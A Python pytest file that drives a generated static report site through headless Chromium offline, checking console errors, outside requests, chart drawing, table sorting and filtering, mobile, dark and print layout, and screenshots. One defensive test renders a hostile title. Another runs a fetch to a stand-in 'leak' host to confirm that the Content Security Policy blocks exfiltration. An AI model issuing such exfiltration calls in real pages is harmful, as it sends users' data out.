"""The published site in real headless Chromium, opened from file:// with no network.

Every page loads with no console error and no request leaving the site folder, every chart
draws marks, a table sorts on a real mouse click, and a screenshot of the index is kept in
$CAETL_TEST_ARTIFACTS (default test-artifacts/ in the repository).
"""

from __future__ import annotations

import os
from pathlib import Path

import duckdb
import pytest

from caetl.reports import write_reports
from caetl.reports.charts import CHARTS
from support import REPO
from support.browser import Visit
from support.sample_warehouse import HOSTILE_TITLE, build_sample_warehouse
from support.skips import skip_or_fail

pytestmark = pytest.mark.slow(seconds=100)

ARTIFACTS = Path(os.environ.get("CAETL_TEST_ARTIFACTS", REPO / "test-artifacts"))
RUN = {"refreshed_at": "2026-11-29T02:00:00Z", "load_id": "browser-test"}
# A chart is ready when each holder has an SVG, or has said why it could not draw.
CHARTS_SETTLED = (
    "Array.from(document.querySelectorAll('[data-spec]')).every("
    "h => h.querySelector('svg .role-mark') || h.textContent.includes('could not be drawn'))"
)


@pytest.fixture(scope="module", params=["sample", "refresh"])
def site(request, module_tmp) -> tuple[Path, Path, str]:
    """(warehouse, html folder, kind): a sample warehouse in the real shapes (with reports still to
    land), and the real `caetl refresh` output of the shared built_home project."""
    if request.param == "refresh":
        home = request.getfixturevalue("built_home")
        return home.warehouse, home.reports / "html", request.param
    root = module_tmp.mktemp("site")
    warehouse = build_sample_warehouse(root / "caetl.duckdb")
    write_reports(warehouse, root / "out", run_info=RUN)
    return warehouse, root / "out" / "html", request.param


def _reports_in(warehouse: Path) -> set[str]:
    con = duckdb.connect(str(warehouse), read_only=True)
    names = {
        r[0]
        for r in con.execute(
            "SELECT table_name FROM duckdb_tables() WHERE schema_name = 'reporting'"
        ).fetchall()
    }
    con.close()
    return names


def _site_pages(html: Path) -> list[Path]:
    return sorted(html.glob("*.html")) + sorted((html / "assets").glob("*.html"))


def _outside_site(urls: list[str], html: Path) -> list[str]:
    inside = html.resolve().as_uri() + "/"
    return [u for u in urls if not (u.startswith(inside) or u.startswith("data:"))]


def test_every_page_loads_offline_without_errors_or_requests(site, open_page):
    _, html, _ = site
    pages = _site_pages(html)
    assert len(pages) >= 3
    problems = {}
    for page in pages:
        visit = open_page(page, ready=CHARTS_SETTLED)
        visit.settle()  # let late console messages arrive
        errors = visit.console_errors
        if page.name == "dbt-docs.html":
            # dbt's own page asks for URLs of templates it has not rendered ({{ getIcon() }},
            # ${require('favicon.ico')}: "%7B" is the brace) and logs them as missing files.
            # It is third-party: its other errors and all its requests are still checked.
            errors = [e for e in errors if "%7B" not in e]
        leaks = _outside_site(visit.requests, html)
        if errors or leaks:
            problems[page.name] = {"console errors": errors, "requests outside": leaks}
    assert not problems


def test_each_chart_draws_marks(site, open_page):
    warehouse, html, kind = site
    charted = {name for name in CHARTS if name in _reports_in(warehouse)}
    assert "rpt_partner_shares" in charted
    if kind == "sample":
        assert {"rpt_mirror_gaps", "rpt_anchor_index", "rpt_deals_vs_flows"} <= charted
    for name in sorted(charted):
        page = html / f"{name}.html"
        assert "data-spec=" in page.read_text(encoding="utf-8"), f"{name}: no chart drawn"
        visit = open_page(page, ready=CHARTS_SETTLED)
        marks = visit.evaluate(
            "Array.from(document.querySelectorAll('[data-spec]')).map(h => "
            "h.querySelectorAll('svg .role-mark > path, svg .role-mark > g, svg .role-mark > line')"
            ".length)"
        )
        assert marks and all(count > 0 for count in marks), (name, marks)


def _column(visit: Visit, index: int) -> list[str]:
    return visit.evaluate(
        "Array.from(document.querySelectorAll('.table tbody tr'))"
        f".map(r => r.cells[{index}].textContent)"
    )


def test_table_sorts_on_click(site, open_page):
    warehouse, html, kind = site
    con = duckdb.connect(str(warehouse), read_only=True)
    columns = [
        r[0]
        for r in con.execute(
            "SELECT column_name FROM duckdb_columns() WHERE table_name = 'rpt_partner_shares' "
            "ORDER BY column_index"
        ).fetchall()
    ]
    shares = [
        r[0] for r in con.execute("SELECT share_pct FROM reporting.rpt_partner_shares").fetchall()
    ]
    con.close()
    share = columns.index("share_pct")
    visit = open_page(html / "rpt_partner_shares.html", ready=CHARTS_SETTLED)
    header = f".table thead th:nth-child({share + 1}) button"
    visit.page.click(header)  # a real mouse click at the button's centre
    ascending = [float(v.replace(",", "")) for v in _column(visit, share)]
    visit.page.click(header)
    descending = [float(v.replace(",", "")) for v in _column(visit, share)]
    assert ascending == sorted(shares)[: len(ascending)]
    assert descending == sorted(shares, reverse=True)[: len(descending)]
    sorted_by = visit.evaluate(f"document.querySelector({header!r}).parentElement.ariaSort")
    assert sorted_by == "descending"


def test_table_filters_as_you_type(site, open_page):
    _, html, _ = site
    visit = open_page(html / "rpt_partner_shares.html", ready=CHARTS_SETTLED)
    visit.page.click(".table input[type=search]")
    visit.page.keyboard.insert_text("KGZ")
    rows = visit.evaluate(
        "Array.from(document.querySelectorAll('.table tbody tr')).map(r => r.textContent)"
    )
    assert rows and all("KGZ" in row for row in rows)


def test_index_shows_every_claim_and_is_screenshotted(site, open_page):
    warehouse, html, kind = site
    if "rpt_claim_checks" not in _reports_in(warehouse):
        skip_or_fail("reporting.rpt_claim_checks is missing from the warehouse")
    con = duckdb.connect(str(warehouse), read_only=True)
    claims = con.execute("SELECT count(*) FROM reporting.rpt_claim_checks").fetchall()[0][0]
    supported = con.execute(
        "SELECT count(*) FROM reporting.rpt_claim_checks WHERE verdict = 'supported'"
    ).fetchall()[0][0]
    articles = con.execute("SELECT count(*) FROM marts.dim_claims").fetchall()[0][0]
    con.close()
    assert claims == articles
    visit = open_page(html / "index.html")
    assert visit.evaluate("document.querySelectorAll('article.card').length") == claims
    assert (
        visit.evaluate("getComputedStyle(document.querySelector('blockquote[lang=ar]')).direction")
        == "rtl"
    )
    name = "index.png" if kind == "refresh" else "index-sample.png"
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    shot = ARTIFACTS / name
    visit.page.screenshot(path=shot, full_page=True)
    visit.page.click(".summary button[data-verdict=supported]")
    shown = visit.evaluate(
        "Array.from(document.querySelectorAll('article.card')).filter(c => !c.hidden)"
        ".map(c => c.classList.contains('supported'))"
    )
    assert len(shown) == supported and all(shown)
    assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and shot.stat().st_size > 10_000


def test_hostile_title_shows_as_text_and_runs_nothing(tmp_path, open_page):
    warehouse = build_sample_warehouse(tmp_path / "hostile.duckdb", hostile=True)
    write_reports(warehouse, tmp_path / "out", run_info=RUN)
    html = tmp_path / "out" / "html"
    for page in ("index.html", "rpt_partner_shares.html", "rpt_mirror_gaps.html"):
        visit = open_page(html / page, ready=CHARTS_SETTLED)
        visit.settle()
        assert not visit.dialogs, page
        assert not visit.console_errors, page
    assert HOSTILE_TITLE in visit.evaluate("document.body.innerText")


def test_readable_on_a_phone_in_dark_mode_and_in_print(site, open_page):
    _, html, _ = site
    pages = [p for p in sorted(html.glob("*.html")) if p.name != "dbt-docs.html"]
    wide = {}
    for page in pages:
        visit = open_page(page, viewport=(390, 844), mobile=True, ready=CHARTS_SETTLED)
        width = visit.evaluate("document.documentElement.scrollWidth")
        if width > 390:
            wide[page.name] = width
    assert not wide, "pages scroll sideways on a phone"
    light = visit.evaluate("getComputedStyle(document.body).backgroundColor")
    visit.page.emulate_media(color_scheme="dark")
    dark = visit.evaluate("getComputedStyle(document.body).backgroundColor")
    visit.page.emulate_media(media="print", color_scheme="light")
    nav = visit.evaluate("getComputedStyle(document.querySelector('header.site nav')).display")
    assert dark != light
    assert nav == "none"


def test_content_security_policy_refuses_network_requests(site, open_page):
    """Even a script that got in could not send data out: connections are refused."""
    _, html, _ = site
    visit = open_page(html / "index.html")
    outcome = visit.evaluate(
        "fetch('http://example.invalid/leak').then(() => 'sent', () => 'refused')"
    )
    visit.settle()
    assert outcome == "refused"
    assert any("Content Security Policy" in e for e in visit.console_errors)
